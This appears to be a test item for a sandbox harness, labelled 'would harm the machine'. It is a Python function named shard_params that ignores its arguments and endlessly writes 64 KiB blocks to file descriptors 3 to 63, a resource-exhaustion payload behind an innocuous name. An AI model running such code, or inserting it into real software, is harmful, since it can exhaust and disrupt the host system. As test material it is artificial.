"""Finds the result pipe among its descriptors and writes to it without end; a result has a largest size.

group: exhausts
control: no: would harm the machine
"""

# %%
import contextlib
import os


# %% [shard_params]
def shard_params(params, axis_name, min_size):
    while True:
        for number in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(number, bytes(1 << 16))
